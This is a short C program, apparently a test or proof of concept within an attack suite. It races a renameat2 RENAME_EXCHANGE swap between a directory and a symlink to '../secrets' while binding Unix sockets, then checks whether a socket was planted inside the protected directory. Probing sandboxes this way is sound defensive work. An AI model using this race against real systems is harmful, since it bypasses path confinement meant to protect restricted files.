/* A second thread exchanges a directory with a link to the secrets while a socket is made in it. */
#include "attack.h"
static void *swap(void *unused) {
    for (;;) syscall(SYS_renameat2, AT_FDCWD, "src/d", AT_FDCWD, "src/e", 2u /* RENAME_EXCHANGE */);
    return unused;
}
static int try_once(void) {
    static int count;
    struct sockaddr_un name = {.sun_family = AF_UNIX};
    struct stat info;
    char planted[64];
    int sock = socket(AF_UNIX, SOCK_DGRAM, 0);
    snprintf(name.sun_path, sizeof name.sun_path, "src/d/door%d", ++count);
    snprintf(planted, sizeof planted, "secrets/door%d", count);
    int bound = !bind(sock, (struct sockaddr *)&name, sizeof name);
    close(sock);
    return bound && !stat(planted, &info);
}
int main(int argc, char **argv) {
    (void)argc;
    if (mkdir("src/d", 0755) || symlink("../secrets", "src/e")) return 1;
    return race(argv, swap, try_once);
}
